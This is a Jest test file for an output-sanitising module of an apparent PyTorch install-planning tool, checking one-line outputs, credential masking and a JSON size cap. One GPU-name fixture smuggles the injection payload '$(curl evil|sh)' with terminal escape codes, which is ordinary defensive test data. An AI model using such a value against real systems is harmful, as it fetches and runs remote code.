import { describe, expect, it } from '@jest/globals';
import { planJson, planOutputs } from '../../src/report/outputs.js';
import { capMachine } from '../../src/detect/load-machine.js';
import { MAX_JSON_BYTES } from '../../src/sinks/outputs.js';
import { testPlan } from '../helpers/plan.js';

describe('outputs', () => {
  it('are one line each, whatever the GPU names hold', () => {
    const plan = testPlan({ backend: 'cu126', indexUrl: 'https://u:tok3n@mirror/whl/cu126?sig=abcdef', machine: { gpus: [{ vendor: 'nvidia', name: 'A\n$(curl evil|sh)\r\u001b[2J', driver: '580.65.06\n' }] } });
    const out = planOutputs(plan, '/w/torchcraft.txt');
    expect(out['gpu-names']).toBe('A $(curl evil|sh) [2J');
    expect(out['index-url']).toBe('https://***:***@mirror/whl/cu126?sig=***');
    for (const v of Object.values(out)) expect(v).not.toMatch(/[\u0000-\u001f]/);
  });

  it('keep the json output under 1 MB for 6,394 GPUs', () => {
    const gpus = Array.from({ length: 6394 }, () => ({ vendor: 'nvidia' as const, name: 'N'.repeat(10_000), computeCapability: '9.0' }));
    const machine = capMachine({ os: 'linux', arch: 'x86_64', gpus, notes: Array.from({ length: 10_000 }, () => 'z'.repeat(5000)) });
    const json = JSON.stringify(planJson(testPlan({ backend: 'cu126', indexUrl: null, machine })));
    expect(Buffer.byteLength(json)).toBeLessThan(MAX_JSON_BYTES);
    expect(JSON.parse(json).machine.gpus).toHaveLength(64);
  });
});
